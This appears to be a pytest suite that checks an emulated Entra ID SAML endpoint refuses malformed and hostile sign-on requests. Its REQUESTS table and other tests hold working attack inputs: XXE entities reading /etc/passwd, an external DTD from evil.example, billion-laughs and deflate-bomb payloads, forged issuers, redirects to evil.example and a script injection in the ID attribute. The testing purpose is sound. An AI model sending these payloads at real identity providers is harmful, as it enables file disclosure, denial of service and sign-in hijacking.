"""A sign-on request to Entra ID's SAML endpoint gets an answer at a registered address or none, whatever is in it.

Source: SAML 2.0 Bindings section 3.4, Profiles section 4.1.4.1.
"""

from __future__ import annotations

import base64
import uuid
import zlib
from collections.abc import Callable
from urllib.parse import urlencode

import pytest
import requests

from tests.attacks.against import ENTRA
from tests.attacks.conftest import Attack
from tests.attacks.test_html_injection import PAYLOADS, is_text
from tests.attacks.test_redirect_uri import NEAR
from tests.attacks.vendors import EMAIL, PASSWORD, Entra, Vendor
from tests.emulator.entra.service_provider import NAMES, deflated
from tests.relying_party import Person, fields_of

ENTITY = "https://sp.example.com/entity"
REPLY = "https://sp.example.com/callback"


class ServiceProvider:
    def __init__(self, vendor: Entra) -> None:
        self.vendor = vendor
        body = {"displayName": "SP", "identifierUris": ["urn:sp:one"], "web": {"redirectUris": [REPLY]}}
        made = vendor.api("POST", "/applications", body)
        self.issuer = made["appId"]
        vendor.api("POST", "/servicePrincipals", {"appId": made["appId"], "preferredSingleSignOnMode": "saml"})
        assert vendor.people

    def message(self, *, inner: str = "", issuer: str | None = None, **attributes: str) -> str:
        given = {
            "ID": f"_{uuid.uuid4()}",
            "Version": "2.0",
            "IssueInstant": "2026-11-25T00:00:00Z",
            "AssertionConsumerServiceURL": REPLY,
            **attributes,
        }
        written = " ".join(f'{name}="{_quoted(value)}"' for name, value in given.items())
        return (
            f'<samlp:AuthnRequest xmlns:samlp="{NAMES["samlp"]}" xmlns:saml="{NAMES["saml"]}" {written}>'
            f"<saml:Issuer>{issuer or self.issuer}</saml:Issuer>{inner}</samlp:AuthnRequest>"
        )

    def ask(self, encoded: str, relay: str = "state-1") -> requests.Response:
        query = urlencode({"SAMLRequest": encoded, "RelayState": relay})
        return Person(self.vendor.emulation.certificate).open(f"{self.vendor.base}/{self.vendor.tenant}/saml2?{query}")

    def sign_in(self, encoded: str, relay: str = "state-1") -> requests.Response:
        person = Person(self.vendor.emulation.certificate)
        query = urlencode({"SAMLRequest": encoded, "RelayState": relay})
        page = person.open(f"{self.vendor.base}/{self.vendor.tenant}/saml2?{query}")
        return person.submit(page, username=EMAIL, password=PASSWORD)


def _quoted(value: str) -> str:
    escaped = value.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
    return "".join(f"&#{ord(one)};" if one in "\t\r\n" else one for one in escaped if one >= " " or one in "\t\r\n")


_kept: list[ServiceProvider] = []


@pytest.fixture
def sp(vendors: dict[str, Vendor]) -> ServiceProvider:
    if not _kept:
        vendor = vendors[ENTRA]
        assert isinstance(vendor, Entra)
        _kept.append(ServiceProvider(vendor))
    return _kept[0]


def refused(answer: requests.Response) -> None:
    assert answer.status_code == 400, answer.text
    assert "AADSTS" in answer.text
    assert 'name="SAMLResponse"' not in answer.text


@pytest.mark.control
def test_an_honest_request_is_answered_at_the_registered_address(sp: ServiceProvider) -> None:
    answer = sp.sign_in(deflated(sp.message()))
    assert f'action="{REPLY}"' in answer.text
    assert fields_of(answer.text)["SAMLResponse"]


_NEAR = {
    name: address.replace("app.example.com", "sp.example.com")
    for name, address in NEAR.items()
    # XML knows no NUL, and attributes have their whitespace made spaces.
    if "\0" not in address
}


@pytest.mark.parametrize("address", _NEAR.values(), ids=_NEAR)
def test_another_address_is_never_answered_to(sp: ServiceProvider, address: str, attack: Attack) -> None:
    with attack:
        answer = sp.ask(deflated(sp.message(AssertionConsumerServiceURL=address)))
        refused(answer)
        assert "Location" not in answer.headers


def _doctype(text: str) -> Callable[[ServiceProvider], str]:
    return lambda sp: deflated(f"{text}{sp.message()}")


_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BOMB = zlib.compressobj(9, wbits=-15)
_BOMB = base64.b64encode(BOMB.compress(b"a" * 40_000_000) + BOMB.flush()).decode()
REQUESTS: dict[str, Callable[[ServiceProvider], str]] = {
    "external-entity": _doctype('<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>'),
    "external-type": _doctype('<!DOCTYPE r SYSTEM "https://evil.example/r.dtd">'),
    "billion-laughs": _doctype(f'<!DOCTYPE r [<!ENTITY l0 "lol">{_LAUGHS}]>'),
    "entity-for-the-issuer": lambda sp: deflated(
        f'<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hostname">]>{sp.message(issuer="&e;")}'
    ),
    "bomb": lambda _: _BOMB,
    "cut-short": lambda sp: deflated(sp.message())[:40],
    "not-deflated": lambda sp: base64.b64encode(sp.message().encode()).decode(),
    "deflated-twice": lambda sp: deflated(deflated(sp.message())),
    "zlib-header": lambda sp: base64.b64encode(zlib.compress(sp.message().encode())).decode(),
    "more-after-the-end": lambda sp: base64.b64encode(base64.b64decode(deflated(sp.message())) + b"more").decode(),
    "not-base64": lambda _: "%%%",
    "empty": lambda _: "",
    "nul": lambda _: deflated(b"\0"),
    "deep": lambda _: deflated(b"<a>" * 20_000),
    "another-message": lambda sp: deflated(sp.message().replace("AuthnRequest", "ArtifactResolve")),
    "version-1": lambda sp: deflated(sp.message(Version="1.1")),
    "no-issuer": lambda sp: deflated(sp.message(issuer=" ")),
    "unknown-issuer": lambda sp: deflated(sp.message(issuer="https://evil.example")),
    "issuer-with-a-comment": lambda sp: deflated(sp.message(issuer=f"x<!-- -->{sp.issuer}")),
    "two-issuers": lambda sp: deflated(
        sp.message(issuer="https://evil.example", inner=f"<saml:Issuer>{sp.issuer}</saml:Issuer>")
    ),
    "artifact-binding": lambda sp: deflated(
        sp.message(ProtocolBinding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Artifact")
    ),
    "identifier-with-markup": lambda sp: deflated(sp.message(ID='"><script>alert(1)</script>')),
    "identifier-with-newline": lambda sp: deflated(sp.message(ID="_a\n<b>")),
}


@pytest.mark.parametrize("make", REQUESTS.values(), ids=REQUESTS)
def test_what_is_no_request_is_answered_by_a_page(
    sp: ServiceProvider, make: Callable[[ServiceProvider], str], attack: Attack
) -> None:
    with attack:
        answer = sp.ask(make(sp))
        refused(answer)
        assert "root:" not in answer.text


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
def test_a_relay_state_goes_back_as_it_came_and_is_text(sp: ServiceProvider, payload: str, attack: Attack) -> None:
    with attack:
        answer = sp.sign_in(deflated(sp.message()), relay=payload)
        is_text(answer, payload)
        assert fields_of(answer.text)["RelayState"] == payload
    with attack:
        is_text(sp.ask(deflated(sp.message(AssertionConsumerServiceURL=payload)), relay=payload), payload)


def test_who_is_disabled_or_unassigned_gets_no_assertion(sp: ServiceProvider, attack: Attack) -> None:
    with sp.vendor.somebody("leaver@example.com"):
        person = Person(sp.vendor.emulation.certificate)
        query = urlencode({"SAMLRequest": deflated(sp.message())})
        address = f"{sp.vendor.base}/{sp.vendor.tenant}/saml2?{query}"
        answer = person.submit(person.open(address), username="leaver@example.com", password=PASSWORD)
        assert "SAMLResponse" in answer.text
        sp.vendor.disable("leaver@example.com")
        with attack:
            assert "SAMLResponse" not in person.open(address).text


def test_a_request_of_one_is_not_finished_as_another_s(sp: ServiceProvider, attack: Attack) -> None:
    """The form of a sign-in cannot say who asked."""
    person = Person(sp.vendor.emulation.certificate)
    query = urlencode({"SAMLRequest": deflated(sp.message())})
    page = person.open(f"{sp.vendor.base}/{sp.vendor.tenant}/saml2?{query}")
    with attack:
        other = deflated(sp.message(AssertionConsumerServiceURL="https://evil.example/"))
        answer = person.submit(
            page, username=EMAIL, password=PASSWORD, SAMLRequest=other, RelayState="x", client_id="x"
        )
        assert f'action="{REPLY}"' in answer.text
        assert "evil.example" not in answer.text
